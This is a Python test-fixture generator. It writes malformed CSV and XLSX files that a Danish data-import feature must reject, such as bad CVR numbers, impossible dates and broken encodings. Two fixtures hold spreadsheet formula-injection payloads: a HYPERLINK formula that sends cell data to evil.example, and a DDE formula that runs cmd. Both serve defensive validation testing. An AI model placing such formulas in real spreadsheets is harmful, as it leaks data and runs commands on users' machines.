"""Writes the bad-input corpus: files an import must refuse with a Danish sentence.

Run `python tests/data/bad/make_corpus.py` to regenerate every file in this folder and
`expected.json`, which says for each file what it is imported as and which words the
refusal must contain (the line, the column). Deterministic: the same bytes every run. The
50 MB file is made by the test itself in a temporary folder instead of being committed.
"""

import csv
import io
import json
import random
import zipfile
from collections.abc import Callable
from pathlib import Path

from openpyxl import Workbook

HERE = Path(__file__).parent

COMPANY_HEADER = ["Navn", "CVR", "Postnr", "By"]
GOOD_COMPANIES = [
    ["Nakskov Æblemost", "10150817", "4900", "Nakskov"],
    ["Rødby Havn Kro", "", "4970", "Rødby"],
    ["Gedser Fiskeri", "12345674", "4874", "Gedser"],
]
CITIZEN_HEADER = ["Navn", "Telefon", "Fødselsår", "Visitationsdato"]
GOOD_CITIZEN = ["Søren Ærø", "22 33 44 55", "1980", "03-03-2026"]
STAFF_HEADER = ["Navn", "Initialer", "Rolle"]
GOOD_STAFF = ["Åse Bæk", "ÅB", "jobformidler"]

# file name -> (import kind, words the message must contain)
EXPECTED: dict[str, tuple[str, list[str]]] = {}
Maker = Callable[[], bytes]


def csv_text(rows: list[list[str]], delimiter: str = ";") -> str:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


def utf8(rows: list[list[str]], delimiter: str = ";") -> bytes:
    return csv_text(rows, delimiter).encode("utf-8-sig")


def companies_with(bad: list[str], at: int = 2) -> list[list[str]]:
    """The good companies with `bad` as row number `at` of the data (line at + 1)."""
    rows = [list(r) for r in GOOD_COMPANIES]
    rows.insert(at - 1, bad)
    return [COMPANY_HEADER, *rows]


def xlsx(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def add(name: str, kind: str, mentions: list[str], data: bytes) -> None:
    EXPECTED[name] = (kind, mentions)
    (HERE / name).write_bytes(data)


def build() -> None:
    rng = random.Random(2026)
    seven_digits = ["Maribo Savværk", "1015081", "4930", "Maribo"]

    # --- empty and nearly empty ------------------------------------------------------------
    add("empty.csv", "companies", ["navn"], b"")
    add("only_bom.csv", "companies", ["navn"], "\ufeff".encode())
    add("header_only.csv", "companies", ["ingen rækker"], utf8([COMPANY_HEADER]))
    add("only_whitespace.csv", "companies", ["navn"], b"   \r\n\t\r\n  \r\n")
    add("only_separators.csv", "companies", ["navn"], b";;;\r\n;;;\r\n")
    add("header_not_first.csv", "companies", ["navn"], utf8([["Virksomheder 2026"], ["x"]]))
    add("staff_header_only.csv", "staff", ["ingen rækker"], utf8([STAFF_HEADER]))

    # --- columns -------------------------------------------------------------------------------
    add("missing_name_column.csv", "companies", ["navn"], utf8([["CVR", "By"], ["10150817", "X"]]))
    add(
        "staff_missing_role.csv",
        "staff",
        ["rolle"],
        utf8([["Navn", "Initialer"], ["Åse Bæk", "ÅB"]]),
    )
    add(
        "duplicate_header.csv",
        "companies",
        ["Navn", "mere end én gang"],
        utf8([["Navn", "CVR", "Navn"], ["A", "", "B"]]),
    )

    # --- CVR -----------------------------------------------------------------------------------
    add("cvr_7_digits.csv", "companies", ["Linje 3"], utf8(companies_with(seven_digits)))
    add(
        "cvr_9_digits.csv",
        "companies",
        ["Linje 2"],
        utf8(companies_with(["Maribo Savværk", "101508170", "4930", "Maribo"], at=1)),
    )
    add(
        "cvr_checksum.csv",
        "companies",
        ["Linje 4", "20000008"],
        utf8(companies_with(["Maribo Savværk", "20000008", "4930", "Maribo"], at=3)),
    )
    add(
        "cvr_letters.csv",
        "companies",
        ["Linje 3"],
        utf8(companies_with(["Maribo Savværk", "ABCDEFGH", "4930", "Maribo"])),
    )
    add(
        "duplicate_cvr.csv",
        "companies",
        ["Linje 5", "linje 2"],
        utf8(companies_with(["Nakskov Æblemost igen", "10150817", "4900", "Nakskov"], at=4)),
    )
    add(
        "bad_postcode.csv",
        "companies",
        ["Linje 3"],
        utf8(companies_with(["Maribo Savværk", "", "49300", "Maribo"])),
    )

    # --- dates and numbers (citizens) -----------------------------------------------------------
    def citizens(bad: list[str]) -> bytes:
        return utf8([CITIZEN_HEADER, GOOD_CITIZEN, bad])

    add(
        "date_31_february.csv",
        "citizens",
        ["Linje 3"],
        citizens(["Anna Holm", "", "1979", "31-02-2026"]),
    )
    add(
        "date_29_february_2025.csv",
        "citizens",
        ["Linje 3"],
        citizens(["Anna Holm", "", "1979", "29-02-2025"]),
    )
    add(
        "date_month_13.csv",
        "citizens",
        ["Linje 3"],
        citizens(["Anna Holm", "", "1979", "01-13-2026"]),
    )
    add(
        "date_words.csv",
        "citizens",
        ["Linje 3"],
        citizens(["Anna Holm", "", "1979", "i morgen tidlig"]),
    )
    add("birth_year_future.csv", "citizens", ["Linje 3"], citizens(["Anna Holm", "", "2090", ""]))
    add("birth_year_text.csv", "citizens", ["Linje 3"], citizens(["Anna Holm", "", "firs", ""]))
    add("phone_too_short.csv", "citizens", ["Linje 3"], citizens(["Anna Holm", "12", "", ""]))
    add(
        "staff_duplicate_initials.csv",
        "staff",
        ["Linje 3"],
        utf8([STAFF_HEADER, GOOD_STAFF, ["Åge Bøg", "åb", "jobformidler"]]),
    )
    add(
        "staff_unknown_role.csv",
        "staff",
        ["Linje 2"],
        utf8([STAFF_HEADER, ["Åse Bæk", "ÅB", "chef"]]),
    )

    # --- layout ----------------------------------------------------------------------------------
    mixed = csv_text([COMPANY_HEADER, GOOD_COMPANIES[0]]) + csv_text([GOOD_COMPANIES[2]], ",")
    add("mixed_delimiters.csv", "companies", ["Linje 3", "»,«"], mixed.encode("utf-8"))
    add(
        "too_many_cells.csv",
        "companies",
        ["Linje 3", "6 celler"],
        utf8(companies_with(["Maribo Savværk", "", "4930", "Maribo", "ekstra", "mere"])),
    )
    unclosed = csv_text([COMPANY_HEADER, GOOD_COMPANIES[0]]) + '"Maribo;;4930;Maribo\r\n'
    add("unclosed_quote.csv", "companies", ["Linje 3"], unclosed.encode("utf-8"))
    add(
        "old_mac_line_endings.csv",
        "companies",
        ["Linje 3"],
        csv_text(companies_with(seven_digits)).replace("\r\n", "\r").encode("utf-8"),
    )

    # --- encodings -------------------------------------------------------------------------------
    add("utf8_bom_bad_row.csv", "companies", ["Linje 3"], utf8(companies_with(seven_digits)))
    add(
        "double_bom_bad_row.csv",
        "companies",
        ["Linje 3"],
        b"\xef\xbb\xbf" + utf8(companies_with(seven_digits)),
    )
    add(
        "cp1252_bad_row.csv",
        "companies",
        ["Linje 3"],
        csv_text(companies_with(seven_digits)).encode("cp1252"),
    )
    add(
        "utf16_le_bom_tabs.csv",
        "companies",
        ["Linje 3"],
        csv_text(companies_with(seven_digits), "\t").encode("utf-16"),
    )
    add(
        "utf16_be_no_bom.csv",
        "companies",
        ["Linje 3"],
        csv_text(companies_with(seven_digits)).encode("utf-16-be"),
    )
    half_and_half = csv_text([COMPANY_HEADER, GOOD_COMPANIES[0]]).encode("utf-8") + csv_text(
        [GOOD_COMPANIES[1]]
    ).encode("cp1252")
    add("mixed_utf8_and_cp1252.csv", "companies", ["linje 3"], half_and_half)
    plain = csv_text([COMPANY_HEADER, ["Maribo", "", "4930", "Maribo"]]).encode()
    undefined = plain + b"Maribo \x81\x8d;;4930;\r\n"
    add("neither_utf8_nor_cp1252.csv", "companies", ["linje 3", "Windows-1252"], undefined)

    # --- cell contents ---------------------------------------------------------------------------
    add(
        "nul_bytes.csv",
        "companies",
        ["Linje 3"],
        utf8(companies_with(["Maribo\x00Savværk", "", "4930", "Maribo"])),
    )
    add(
        "control_characters.csv",
        "companies",
        ["Linje 3", "kolonnen Navn", "0x07"],
        utf8(companies_with(["Maribo\x07Savværk", "", "4930", "Maribo"])),
    )
    add(
        "escape_sequence.csv",
        "companies",
        ["Linje 2", "kolonnen By", "0x1B"],
        utf8(companies_with(["Maribo Savværk", "", "4930", "\x1b[31mMaribo"], at=1)),
    )
    add(
        "formula_hyperlink.csv",
        "companies",
        ["Linje 3", "kolonnen Navn", "formel"],
        utf8(companies_with(['=HYPERLINK("http://evil.example/?"&A2;"Klik")', "", "4930", "X"])),
    )
    add(
        "formula_dde.csv",
        "companies",
        ["Linje 4", "kolonnen By", "formel"],
        utf8(companies_with(["Maribo Savværk", "", "4930", "=cmd|' /C calc'!A0"], at=3)),
    )
    add(
        "excel_error_values.csv",
        "companies",
        ["Linje 3", "#N/A", "Linje 4", "#DIV/0!"],
        utf8(
            [
                COMPANY_HEADER,
                GOOD_COMPANIES[0],
                ["#N/A", "", "4930", "Maribo"],
                ["Sakskøbing Is", "", "4990", "#DIV/0!"],
            ]
        ),
    )
    add(
        "name_too_long.csv",
        "companies",
        ["Linje 3", "kolonnen Navn", "160"],
        utf8(companies_with(["Maribo " * 200, "", "4930", "Maribo"])),
    )
    huge = "x" * 200_000
    add(
        "field_beyond_csv_limit.csv",
        "companies",
        ["Linje 3"],
        utf8(companies_with(["Maribo", "", "4930", huge])),
    )
    add(
        "note_too_long.csv",
        "companies",
        ["Linje 2", "kolonnen Noter", "5000"],
        utf8([["Navn", "Noter"], ["Maribo Savværk", "bla " * 3000]]),
    )

    # --- not what the name says ------------------------------------------------------------------
    add(
        "binary_junk.csv",
        "companies",
        ["binære data"],
        bytes(rng.randrange(256) for _ in range(4096)),
    )
    add(
        "png_named.csv",
        "companies",
        ["binære data"],
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(rng.randrange(256) for _ in range(512)),
    )
    zipped = io.BytesIO()
    with zipfile.ZipFile(zipped, "w") as archive:
        archive.writestr("virksomheder.csv", csv_text(companies_with(seven_digits)))
    add("zip_named.csv", "companies", ["zip"], zipped.getvalue())
    add("xlsx_named.csv", "companies", ["zip"], xlsx([COMPANY_HEADER, *GOOD_COMPANIES]))
    add("csv_named.xlsx", "companies", [".csv"], utf8(companies_with(seven_digits)))
    add("zip_of_text.xlsx", "companies", ["kan ikke læses"], zipped.getvalue())
    real = xlsx([COMPANY_HEADER, *GOOD_COMPANIES])
    add("truncated.xlsx", "companies", ["kan ikke læses"], real[: len(real) // 2])
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(rng.randrange(256) for _ in range(2040))
    add("password_protected.xlsx", "companies", ["adgangskode"], ole)
    add("empty.xlsx", "companies", ["kan ikke læses"], b"")
    add(
        "binary_junk.xlsx",
        "companies",
        ["kan ikke læses"],
        bytes(rng.randrange(256) for _ in range(2048)),
    )

    # --- workbooks with bad content --------------------------------------------------------------
    add("empty_sheet.xlsx", "companies", ["navn"], xlsx([]))
    add("xlsx_header_only.xlsx", "companies", ["ingen rækker"], xlsx([COMPANY_HEADER]))
    add(
        "xlsx_cvr_7_digits.xlsx",
        "companies",
        ["Linje 3"],
        xlsx(companies_with(["Maribo Savværk", 1015081, 4930, "Maribo"])),  # type: ignore[list-item]
    )
    add(
        "xlsx_duplicate_cvr.xlsx",
        "companies",
        ["Linje 4", "linje 2"],
        xlsx(companies_with(["Nakskov igen", "10150817", "4900", "Nakskov"], at=3)),
    )
    add(
        "xlsx_excel_error.xlsx",
        "companies",
        ["Linje 3", "#REF!"],
        xlsx(companies_with(["#REF!", "", "4930", "Maribo"])),
    )
    add(
        "xlsx_formula_without_value.xlsx",
        "companies",
        ["Linje 3"],
        xlsx(companies_with(["=A2&B2", "", "4930", "Maribo"])),
    )
    add(
        "xlsx_bad_date.xlsx",
        "citizens",
        ["Linje 3"],
        xlsx([CITIZEN_HEADER, GOOD_CITIZEN, ["Anna Holm", "", "1979", "29-02-2025"]]),
    )
    add(
        "xlsx_name_too_long.xlsx",
        "companies",
        ["Linje 2", "kolonnen Navn"],
        xlsx(companies_with(["Å" * 5000, "", "4930", "Maribo"], at=1)),
    )

    (HERE / "expected.json").write_text(
        json.dumps(
            {name: {"kind": kind, "mentions": words} for name, (kind, words) in EXPECTED.items()},
            ensure_ascii=False,
            indent=1,
            sort_keys=True,
        )
        + "\n",
        encoding="utf-8",
    )


if __name__ == "__main__":
    build()
    print(f"{len(EXPECTED)} filer skrevet i {HERE}")
